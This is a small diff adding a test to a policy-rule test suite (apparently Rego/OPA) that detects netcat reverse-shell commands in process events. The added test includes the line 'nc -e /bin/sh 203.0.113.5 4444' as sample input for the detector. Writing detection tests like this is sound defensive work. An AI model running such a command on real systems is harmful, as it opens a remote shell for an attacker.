@@ -56,3 +56,7 @@ test_an_applet_of_busybox if {
 test_targets_are_a_parameter if {
 	count(found_with(testing.command("nc -e /app/handler db 1"), {"targets": ["handler"]})) == 1
 }
+
+test_points_at_the_arguments if {
+	testing.paths(found(testing.command("nc -e /bin/sh 203.0.113.5 4444"))) == {"/event/process/args"}
+}
